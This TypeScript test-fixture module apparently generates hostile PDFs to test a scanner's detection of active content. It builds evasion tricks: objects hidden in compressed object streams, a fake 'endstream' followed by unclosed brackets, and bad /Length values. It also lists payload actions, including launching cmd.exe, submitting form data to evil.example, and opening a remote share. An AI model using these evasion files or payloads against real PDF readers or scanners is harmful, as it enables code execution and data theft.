import { deflateSync } from "node:zlib";

/**
 * PDFs that hide active content from a check that reads the bytes in order rather than as a
 * reader does (ADR 021): objects kept in a Flate object stream that a cross-reference stream
 * points to, behind a content stream whose data holds a fake `endstream (`, so a naive walk reads
 * the rest of the file as one unclosed string.
 */

interface HostileOptions {
  /** The catalog's extra keys (written inside the object stream with the catalog). */
  catalogExtra?: string;
  /** The page's extra keys. */
  pageExtra?: string;
  /** More objects inside the object stream, numbered from 8. */
  extraObjects?: string[];
  /** Whether the object stream says `/Type /ObjStm` (pdf.js does not need it). */
  objStmName?: boolean;
  /** Whether a content stream holds a fake `endstream (` before the object stream. */
  fakeEndstream?: boolean;
  /** How the content stream (4) states its length (ContentLength); declared correctly by default. */
  contentLength?: ContentLength;
  /** Whether the object stream is Flate-compressed (the default) or written plain. */
  compressObjects?: boolean;
}

/**
 * A content stream's /Length as hostile files state it: correct, absent, wrong (9 bytes past
 * the data, so it does not land on `endstream`), or an indirect reference to an object the file
 * does not hold. Without a usable one, a scanner can only guess where the data ends.
 */
export type ContentLength = "declared" | "missing" | "wrong" | "missing-object";

function lengthEntry(contentLength: ContentLength, length: number): string {
  if (contentLength === "missing") return "";
  if (contentLength === "wrong") return `/Length ${length + 9}`;
  if (contentLength === "missing-object") return "/Length 99 0 R";
  return `/Length ${length}`;
}

/** Writes `n 0 obj … endobj` and remembers where it starts. */
class Writer {
  readonly parts: Buffer[] = [];
  readonly offsets = new Map<number, number>();
  length = 0;

  write(data: string | Buffer): void {
    const buffer = typeof data === "string" ? Buffer.from(data, "latin1") : data;
    this.parts.push(buffer);
    this.length += buffer.length;
  }

  object(number: number, body: string | Buffer): void {
    this.offsets.set(number, this.length);
    this.write(`${number} 0 obj\n`);
    this.write(body);
    this.write("\nendobj\n");
  }
}

function streamObject(dictionary: string, data: Buffer, length = `/Length ${data.length}`): Buffer {
  return Buffer.concat([Buffer.from(`<< ${dictionary} ${length} >>\nstream\n`), data, Buffer.from("\nendstream")]);
}

/**
 * A one-page PDF 1.5 whose catalog (1), pages (2), page (3) and any extra objects (8…) sit in a
 * Flate object stream (5); its content stream (4) is plain. A cross-reference stream (6) finds them.
 * An incremental update may follow (createIncrementalUpdate).
 */
export function createHiddenObjectStreamPdf(options: HostileOptions = {}): Buffer {
  const {
    catalogExtra = "",
    pageExtra = "",
    extraObjects = [],
    objStmName = false,
    fakeEndstream = true,
    contentLength = "declared",
    compressObjects = true,
  } = options;
  const compressed = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${pageExtra} >>`,
    ...extraObjects,
  ];
  const numbers = [1, 2, 3, ...extraObjects.map((_object, index) => 8 + index)];
  let header = "";
  let body = "";
  compressed.forEach((object, index) => {
    header += `${numbers[index]} ${body.length} `;
    body += `${object}\n`;
  });
  const plain = Buffer.from(header + body, "latin1");
  const data = compressObjects ? deflateSync(plain) : plain;

  const writer = new Writer();
  writer.write("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n");
  // Page text, then (in the attack) a fake end of the stream and an opened string with many
  // brackets, so a walk that trusts the first `endstream` never leaves the string.
  const content = Buffer.from(
    `BT /F1 12 Tf 72 770 Td (Statement) Tj ET\n${fakeEndstream ? `%endstream ${"(".repeat(4_000)}\n` : ""}`,
    "latin1",
  );
  writer.object(4, streamObject("", content, lengthEntry(contentLength, content.length)));
  writer.object(
    5,
    streamObject(
      `${objStmName ? "/Type /ObjStm " : ""}/N ${compressed.length} /First ${header.length}${compressObjects ? " /Filter /FlateDecode" : ""}`,
      data,
    ),
  );
  const size = Math.max(8, 8 + extraObjects.length);
  // Cross-reference stream: type 1 (offset) for 4, 5, 6; type 2 (in object stream 5) for the rest.
  const xrefOffset = writer.length;
  const rows = Buffer.alloc(size * 7);
  for (let number = 0; number < size; number++) {
    const row = rows.subarray(number * 7, number * 7 + 7);
    const compressedIndex = numbers.indexOf(number);
    if (number === 0) row.writeUInt8(0, 0);
    else if (compressedIndex !== -1) {
      row.writeUInt8(2, 0);
      row.writeUInt32BE(5, 1);
      row.writeUInt16BE(compressedIndex, 5);
    } else if (number === 6) {
      row.writeUInt8(1, 0);
      row.writeUInt32BE(xrefOffset, 1);
    } else if (writer.offsets.has(number)) {
      row.writeUInt8(1, 0);
      row.writeUInt32BE(writer.offsets.get(number)!, 1);
    }
  }
  writer.object(6, streamObject(`/Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R`, rows));
  writer.write(`startxref\n${xrefOffset}\n%%EOF\n`);
  return Buffer.concat(writer.parts);
}

/**
 * An incremental update appended to `base` (a createHiddenObjectStreamPdf): a new catalog with
 * `catalogExtra`, in a new Flate object stream without /Type, found by a new cross-reference stream.
 */
export function createIncrementalUpdate(base: Buffer, catalogExtra: string): Buffer {
  const previous = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(base.toString("latin1"))![1]);
  const header = "1 0 ";
  const data = deflateSync(Buffer.from(`${header}<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>\n`, "latin1"));
  const writer = new Writer();
  writer.write(base);
  writer.object(20, streamObject(`/N 1 /First ${header.length} /Filter /FlateDecode`, data));
  const xrefOffset = writer.length;
  const rows = Buffer.alloc(7 * 2);
  rows.writeUInt8(2, 0);
  rows.writeUInt32BE(20, 1);
  rows.writeUInt16BE(0, 5);
  rows.writeUInt8(1, 7);
  rows.writeUInt32BE(writer.offsets.get(20)!, 8);
  rows.writeUInt16BE(0, 12);
  const xref = Buffer.alloc(7);
  xref.writeUInt8(1, 0);
  xref.writeUInt32BE(xrefOffset, 1);
  writer.object(
    21,
    streamObject(`/Type /XRef /Size 22 /Index [1 1 20 2] /W [1 4 2] /Root 1 0 R /Prev ${previous}`, Buffer.concat([rows, xref])),
  );
  writer.write(`startxref\n${xrefOffset}\n%%EOF\n`);
  return Buffer.concat(writer.parts);
}

/**
 * Actions a reader runs without the page's say: starting a program, sending the form or
 * importing data, opening an attached or a remote file, a file: address, playing media.
 */
export const HOSTILE_ACTIONS: Record<string, string> = {
  Launch: "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
  SubmitForm: "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>",
  ImportData: "<< /S /ImportData /F (data.fdf) >>",
  GoToE: "<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>",
  GoToR: "<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>",
  "URI to a file": "<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
  Rendition: "<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (movie.swf) >> >> >> >>",
};

/** Where a hostile action sits: the catalog's /OpenAction, the catalog's /AA, a page's /AA. */
export const ACTION_PLACES: Record<string, (action: string) => Pick<HostileOptions, "catalogExtra" | "pageExtra">> = {
  OpenAction: (action) => ({ catalogExtra: `/OpenAction ${action}` }),
  "the catalog's /AA": (action) => ({ catalogExtra: `/AA << /WC ${action} >>` }),
  "a page's /AA": (action) => ({ pageExtra: `/AA << /O ${action} >>` }),
};

/**
 * Every hostile action in every place, behind a content stream whose end cannot be found from its
 * /Length (missing, wrong, or an indirect reference to a missing object), in a Flate-compressed or
 * a plain object stream: the files of issue 21 finding 4's last variant, by name.
 */
export function createHiddenActionPdfs(): Array<[string, Buffer]> {
  const files: Array<[string, Buffer]> = [];
  for (const [actionName, action] of Object.entries(HOSTILE_ACTIONS))
    for (const [placeName, place] of Object.entries(ACTION_PLACES))
      for (const contentLength of ["missing", "wrong", "missing-object"] as const)
        for (const compressObjects of [true, false])
          files.push([
            `${actionName} in ${placeName}, /Length ${contentLength}, ${compressObjects ? "compressed" : "plain"} object stream`,
            createHiddenObjectStreamPdf({ ...place(action), contentLength, compressObjects }),
          ]);
  return files;
}
